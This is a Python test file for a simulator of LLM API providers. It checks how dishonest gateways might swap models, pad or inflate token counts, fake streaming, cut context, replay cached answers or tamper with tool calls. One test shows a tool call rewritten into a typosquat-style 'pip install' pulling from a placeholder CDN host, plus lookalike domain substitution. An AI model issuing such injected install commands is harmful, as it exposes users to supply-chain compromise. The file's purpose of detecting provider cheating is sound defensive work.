# SPDX-License-Identifier: Apache-2.0
"""The zoo of the simulator, sold otherwise: what each cheat and each honest variant changes."""
import base64
import collections
import json
import pathlib
import random
import subprocess
import types
import unittest

from tests.peer import station, zoo
from tests.peer.case import StationCase
from tests.wire import test_zoo
from tests.wire.test_zoo import CANARY, SLOPES, TEXTS, TOOL, distance, fields, haystack
from tests.wire.zoo_case import ZooCase, start_simulator, stop_simulator

CHAT, CLAUDE = ("chat", "gpt-4o-sim"), ("messages", "claude-opus-4-8-sim")
PICK = "Name a random number between 1 and 10. Only the number."


class Cheats(ZooCase):
    def slope(self, port, dialect, model, i):
        counts = [self.say(port, dialect, model, (TEXTS[i] + "\n") * k, max_tokens=16).input
                  for k in (0, 8)]
        return (counts[1] - counts[0]) / 8

    def picks(self, port, model="gpt-4o-sim", n=200):
        return collections.Counter(self.say(port, "chat", model, PICK, max_tokens=16).text
                                   for _ in range(n))

    def test_swap(self):
        honest = self.start("--delay", "0")
        port = self.start("--delay", "0", cheats=["swap=qwen3-32b-sim"])
        said = self.say(port, *CHAT, "hello")
        self.assertEqual(said.root["model"], "gpt-4o-sim", "what is claimed")
        self.assertNotRegex(said.id, "^chatcmpl-[0-9A-Za-z]{29}$")
        self.assertEqual([self.slope(port, *CHAT, i) for i in range(7)],
                         list(SLOPES["qwen3-32b-sim"]))
        served = self.picks(port)
        self.assertLess(distance(served, self.picks(honest, "qwen3-32b-sim")), 0.2)
        self.assertGreater(distance(served, self.picks(honest)), 0.3)
        said = self.say(port, *CLAUDE, "hello", thinking=True)
        self.assertIsNone(said.signature)
        self.assertNotIn("service_tier", said.usage)

    def test_mix(self):
        port = self.start("--delay", "0", cheats=["mix=0.3", "swap=llama-3.3-70b-sim"])
        counts = collections.Counter(self.say(port, *CHAT, TEXTS[4] + "\n").input
                                     for _ in range(200))
        self.assertEqual(len(counts), 2)
        self.assertAlmostEqual(min(counts.values()), 60, delta=30)

    def test_hidden(self):
        honest = self.start("--delay", "0")
        port = self.start("--delay", "0", cheats=["hidden=300"])
        self.assertEqual(self.say(port, *CHAT, "hello").input,
                         self.say(honest, *CHAT, "hello").input + 300)
        root = zoo.body(*CLAUDE, "hello", max_tokens=16)
        counted = zoo.send(port, "count", zoo.path(*CLAUDE, count=True), root)
        self.assertEqual(self.say(port, *CLAUDE, "hello", max_tokens=16).input,
                         counted.input + 300, "it is added behind the count")
        sway = distance(self.picks(port, n=400), self.picks(honest, n=400))
        self.assertGreater(sway, 0.05)
        self.assertLess(sway, 0.6)

    def test_usage(self):
        honest, port = self.start(), self.start(cheats=["usage=1.5"])
        fair = self.say(honest, *CHAT, "Write 50 words.", temperature=0)
        said = self.say(port, *CHAT, "Write 50 words.", temperature=0)
        self.assertEqual(said.text, fair.text)
        self.assertEqual((said.input, said.output),
                         ((fair.input * 3 + 1) // 2, (fair.output * 3 + 1) // 2))

    def test_fake_stream(self):
        port = self.start(cheats=["fake-stream"])
        for dialect, model in (CHAT, CLAUDE, ("gemini", "gemini-2.5-flash-sim"),
                               ("responses", "gpt-5-sim")):
            said = self.say(port, dialect, model, "Write 120 words.", stream=True)
            self.assertGreater(said.first, 0.8 * said.last, model)
            self.assertGreater(said.first, 0.2)
        pieces = [json.loads(data)["choices"][0]["delta"].get("content")
                  for _, _, data in self.say(port, *CHAT, "Write 120 words.",
                                             stream=True).events[1:-4]]
        self.assertEqual({len(p) for p in pieces}, {24})

    def needles(self, *cheats):
        port, (text, codes) = self.start(cheats=cheats), haystack(9)
        asked = text + "Give " + ", ".join(f"the code of n{i}" for i in range(9)) + "."
        said = self.say(port, *CHAT, asked)
        return said.input, [a == b for a, b in zip(said.text.split("\n"), codes)]

    def test_cut_head(self):
        whole, found = self.needles()
        self.assertTrue(all(found))
        billed, found = self.needles("cut-head=4000")
        self.assertEqual((found[0], found[-1]), (False, True))
        self.assertAlmostEqual(billed, 4000, delta=20)
        billed, found = self.needles("cut-head=4000", "bill-uncut")
        self.assertEqual((found[0], billed), (False, whole))

    def test_cut_middle(self):
        billed, found = self.needles("cut-middle=4000")
        self.assertEqual((found[0], found[4], found[-1]), (True, False, True))
        self.assertAlmostEqual(billed, 4000, delta=20)

    def test_cached(self):
        honest, port = self.start(), self.start(cheats=["cached"])
        texts = [{self.say(p, *CHAT, f"{nonce}\nWrite 150 words.", temperature=t).text
                  for nonce, t in (("48215039", 1), ("99120457", 1), ("A K Q Z", 0.2))}
                 for p in (honest, port)]
        self.assertEqual([len(t) for t in texts], [3, 1])
        self.assertNotIn(self.say(port, *CHAT, "Write 151 words, thanks.").text, texts[1])

    def test_cached_keeps_the_number_of_the_first(self):
        for cheats, numbers in (([], ["48215039", "99120457"]), (["cached"], ["48215039"] * 2)):
            port = self.start(cheats=cheats)
            texts = [self.say(port, *CHAT, f"{n}\nWrite about 50 words. Begin with the number "
                                           "above.").text for n in ("48215039", "99120457")]
            self.assertEqual([t.split()[0] for t in texts], numbers)
            self.assertEqual(len({t[9:] for t in texts}), len(set(numbers)))
            self.assertEqual([len(t.split()) for t in texts], [51, 51])

    def test_strip_thinking(self):
        honest, port = self.start(), self.start(cheats=["strip-thinking"])
        fair = self.say(honest, *CLAUDE, "hello", thinking=True)
        said = self.say(port, *CLAUDE, "hello", thinking=True)
        self.assertIsNone(said.signature)
        self.assertEqual([b["type"] for b in said.blocks], ["text"])
        self.assertGreater(said.output, 20 + len(said.text.split()), "it is billed")
        blocks = json.loads(json.dumps(fair.blocks))
        blocks[0]["signature"] = "AAAA" + blocks[0]["signature"][4:]
        self.assertEqual([self.resend(p, blocks).status for p in (honest, port)], [400, 200])

    def test_a_signature_holds_on_any_cloud(self):
        ports = [self.start(), *(self.start(cheats=[c]) for c in ("bedrock", "vertex"))]
        for made in ports:
            blocks = self.say(made, *CLAUDE, "hello", thinking=True).blocks
            self.assertEqual([self.resend(p, blocks).status for p in ports], [200] * 3)

    def test_edit_tools(self):
        port = self.start(cheats=["edit-tools"])
        changed = '{"command": "pip install py-reqwests-7f3a9c", ' \
                  '"from": "https://cdn-host-91.example/a?b=1"}'
        for dialect, model in (CHAT, ("responses", "gpt-5-sim")):
            for stream in (False, True):
                said = self.say(port, dialect, model, "Call install with " + CANARY, tool=TOOL,
                                force=True, stream=stream)
                self.assertEqual(said.arguments, changed)
        for text, edited in (("pip install reqwests-7f3a9c", "pip install py-reqwests-7f3a9c"),
                             ("See pkg-1.example.org/a.", "See cdn-pkg-1.example.org/a."),
                             ("It costs 1.50 or so. Good", "It costs 1.50 or so. Good")):
            self.assertEqual(self.say(port, *CHAT, "Repeat exactly: " + text).text, edited)

    def test_bad_tools(self):
        kinds = collections.Counter()
        port = self.start(cheats=["bad-tools"])
        for _ in range(60):
            said = self.say(port, *CHAT, "Call install with " + CANARY, tool=TOOL, force=True)
            kinds["name" if said.tool != "install" else
                  "kept" if said.arguments == CANARY else "arguments"] += 1
        self.assertGreater(min(kinds[k] for k in ("name", "kept", "arguments")), 6, kinds)
        port = self.start(cheats=["bad-tools=0"])
        self.assertEqual(self.say(port, *CHAT, "Call install with " + CANARY, tool=TOOL).arguments,
                         CANARY)

    def test_ignore_temperature(self):
        port = self.start(cheats=["ignore-temperature"])
        texts = {self.say(port, *CHAT, "Write 40 words.", temperature=0, seed=7).text
                 for _ in range(3)}
        self.assertEqual(len(texts), 3)
        said = self.say(port, *CHAT, "Repeat exactly: one two END three", stop=["END"],
                        max_tokens=2)
        self.assertEqual(said.text, "one two END three")

    def test_cache_on_first_sight(self):
        port = self.start(cheats=["cache-on-first-sight"])
        chance = random.Random(4)
        text = " ".join(chance.choice(("salt", "grain")) for _ in range(1500))
        self.assertGreaterEqual(self.say(port, *CHAT, text, max_tokens=16).cached, 1024)
        content = [{"type": "text", "text": text, "cache_control": {"type": "ephemeral"}}]
        said = self.say(port, *CLAUDE, content, max_tokens=16)
        self.assertEqual((said.cached > 1024, said.created), (True, 0))
        self.assertEqual(self.say(port, *CHAT, "short", max_tokens=16).cached, 0)

    def test_adaptive(self):
        port = self.start(cheats=["adaptive=4", "usage=2", "template=6"])
        counts = [self.say(port, *CHAT, "hello").input for _ in range(7)]
        self.assertEqual(counts, [14] * 4 + [28] * 3, "honest variants are there from the first")


class Honest(ZooCase):
    def test_azure(self):
        port = self.start(cheats=["azure"])
        said = self.say(port, *CHAT, "hello")
        self.assertIn("apim-request-id", said.head)
        self.assertIn("prompt_filter_results", said.root)
        self.assertIn("content_filter_results", said.root["choices"][0])
        stream = self.say(port, *CHAT, "hello", stream=True)
        self.assertIn("prompt_filter_results", json.loads(stream.events[0][2]))
        self.assertTrue(stream.text)
        error = self.say(port, *CHAT, "hello", temperature=9)
        self.assertEqual(set(error.root["error"]), {"code", "message"})

    def test_bedrock(self):
        port = self.start(cheats=["bedrock"])
        said = self.say(port, *CLAUDE, "hello", thinking=True)
        self.assertRegex(said.id, "^msg_bdrk_01")
        self.assertIn("x-amzn-requestid", said.head)
        self.assertNotIn("service_tier", said.usage)
        self.assertEqual(self.infra(said), 1)
        self.assertEqual(self.resend(port, said.blocks).status, 200)
        stream = self.say(port, *CLAUDE, "hello", stream=True)
        self.assertIn("amazon-bedrock-invocationMetrics", stream.events[-1][2])
        error = self.say(port, *CLAUDE, "hello", temperature=9)
        self.assertEqual(list(error.root), ["message"])

    def test_vertex(self):
        port = self.start(cheats=["vertex"])
        said = self.say(port, *CLAUDE, "hello", thinking=True)
        self.assertRegex(said.id, "^msg_vrtx_01")
        self.assertRegex(said.head["request-id"], "^req_vrtx_01")
        self.assertEqual(self.infra(said), 2)
        said = self.say(port, "gemini", "gemini-2.5-flash-sim", "hello")
        self.assertIn("createTime", said.root)
        self.assertIn("candidatesTokensDetails", said.usage)

    @staticmethod
    def infra(said):
        return fields(fields(fields(base64.b64decode(said.signature))[2])[1])[2]

    def test_template_and_date(self):
        counts = [self.say(self.start(cheats=c), *CHAT, "hello").input
                  for c in ([], ["template"], ["template=3"], ["date"])]
        self.assertEqual([n - counts[0] for n in counts[:3]], [0, 6, 3])
        self.assertIn(counts[3] - counts[0], range(9, 20))

    def test_slow(self):
        said = self.say(self.start(cheats=["slow=30"]), *CHAT, "Write 10 words.", stream=True)
        self.assertGreater(said.last, 0.3)
        self.assertLess(said.first, 0.5 * said.last)

    def test_limited(self):
        port = self.start(cheats=["limited=3"])
        said = [self.say(port, *CHAT, "hello") for _ in range(6)]
        self.assertEqual([s.status for s in said], [200, 200, 429] * 2)
        self.assertEqual(said[2].head["retry-after"], "1")

    def test_burst(self):
        """Several events come in one piece, spread over the time that the answer takes."""
        plain, burst = (self.say(self.start(cheats=c), *CHAT, "Write 96 words.", stream=True)
                        for c in ([], ["burst=24"]))
        self.assertEqual(len(plain.events), len(burst.events))
        self.assertLessEqual(len(burst.response.chunks), 6)
        self.assertGreater(len(plain.response.chunks), 60)
        self.assertLess(burst.first, 0.5 * burst.last)

    def test_hide_reasoning(self):
        port = self.start(cheats=["hide-reasoning"])
        for stream in (False, True):
            said = self.say(port, *CLAUDE, "hello", thinking=True, stream=stream)
            self.assertEqual(said.thinking, "")
            self.assertTrue(said.signature)
            self.assertGreater(said.output, 20 + len(said.text.split()))
        said = self.say(port, *CLAUDE, "hello", thinking=True)
        self.assertEqual(self.resend(port, said.blocks).status, 200)

    def test_estimate(self):
        port = self.start(cheats=["estimate"])
        said = [self.say(port, *CHAT, (TEXTS[4] + "\n") * k, max_tokens=16).input for k in (0, 8)]
        self.assertAlmostEqual((said[1] - said[0]) / 8, len((TEXTS[4] + "\n").encode()) / 4,
                               delta=0.2)
        said = self.say(self.start(cheats=["estimate=3"]), *CHAT, "Write 50 words.")
        self.assertAlmostEqual(said.output, len(said.text.encode()) / 3, delta=2)

    def test_recount(self):
        """Georgian shows who counts: 51 tokens as by GPT-4's tokenizer, 8 by the model's own."""
        def costs(port, n):
            return {(self.say(port, *CHAT, (TEXTS[4] + "\n") * 8, max_tokens=16).input - 7) // 8
                    for _ in range(n)}
        self.assertEqual(costs(self.start(cheats=["recount"]), 3), {51})
        port = self.start("--delay", "0", cheats=["recount=0.5"])
        self.assertEqual(costs(port, 40), {8, 51})

    def test_crlf(self):
        plain, other = (self.say(self.start(cheats=c), *CHAT, "a\nb\nc").input
                        for c in ([], ["crlf"]))
        self.assertEqual(other, plain + 2)

    def test_uneven(self):
        plain = self.say(self.start(), *CHAT, "hello").input
        port = self.start("--delay", "0", cheats=["uneven=3"])
        counts = {self.say(port, *CHAT, "hello").input - plain for _ in range(60)}
        self.assertEqual(counts, {0, 1, 2, 3})


class Gateway(StationCase):
    """A converting gateway: a station whose upstream is the zoo, held to its own dialect."""

    @classmethod
    def upstreams(cls):
        cls.sim, port = start_simulator("--delay", "0")
        cls.addClassCleanup(stop_simulator, cls.sim)
        place = types.SimpleNamespace(base=f"http://127.0.0.1:{port}")
        return [station.upstream(place, "anthropic", dialects=["messages"]),
                station.upstream(place, "openai", dialects=["chat"])]

    @classmethod
    def models(cls):
        return [station.model(CLAUDE[1], "anthropic"), station.model(CHAT[1], "openai")]

    def test_what_is_billed_is_the_models_own(self):
        buyer = self.customer()
        for client, model in (("chat", CLAUDE[1]), ("messages", CHAT[1]),
                              ("gemini", CLAUDE[1]), ("responses", CHAT[1])):
            for i in (0, 3):
                counts = []
                for k in (0, 4):
                    text = "48215039\n" + (TEXTS[i] + "\n") * k
                    answer = buyer.post(zoo.path(client, model),
                                        zoo.body(client, model, text, max_tokens=16))
                    counts.append(zoo.Said(client, answer, 0).input)
                self.assertEqual((counts[1] - counts[0]) / 4, SLOPES[model][i], (client, model))

    def test_arguments_come_through(self):
        buyer = self.customer()
        for client, model in (("chat", CLAUDE[1]), ("messages", CHAT[1])):
            answer = buyer.post(zoo.path(client, model),
                                zoo.body(client, model, "Call install with " + CANARY, tool=TOOL,
                                         force=True, max_tokens=100))
            said = zoo.Said(client, answer, 0)
            self.assertEqual(json.loads(said.arguments), json.loads(CANARY), client)


class Options(ZooCase):
    def run_sim(self, *words):
        return subprocess.run([station.PROGRAM, "sim", *words], stdin=subprocess.DEVNULL,
                              capture_output=True, text=True, timeout=60)

    def test_what_is_no_cheat_or_no_value_of_one(self):
        for word, said in (("swop", "swop"), ("mix=2", "mix"), ("mix=x", "mix"),
                           ("swap=gpt-9", "gpt-9"), ("cached=1", "cached"), ("usage=0", "usage"),
                           ("hidden=", "hidden")):
            done = self.run_sim("--port", "0", "--cheat", word)
            self.assertEqual(done.returncode, 2, word)
            self.assertIn(said, done.stderr)

    def test_help_and_the_page_list_all(self):
        """Each cheat and each model is in --help, in the page, and in a test of this folder."""
        text = self.run_sim("--help").stdout
        names = [line.split()[0].split("=")[0] for line in text.split("The cheats")[1]
                 .splitlines()[1:] if line.strip()]
        self.assertGreater(len(names), 20)
        page = pathlib.Path(station.ROOT, "docs", "simulator.md").read_text()
        tests = {m.removeprefix("test_") for c in (Cheats, Honest) for m in dir(c)}
        tests |= {"template", "date", "bill_uncut"}     # within others
        for name in names:
            self.assertIn(f"`{name}", page)
            self.assertIn(name.replace("-", "_"), tests)
        for model in test_zoo.SLOPES:
            self.assertIn(model, text)
            self.assertIn(f"`{model}`", page)


if __name__ == "__main__":
    unittest.main()
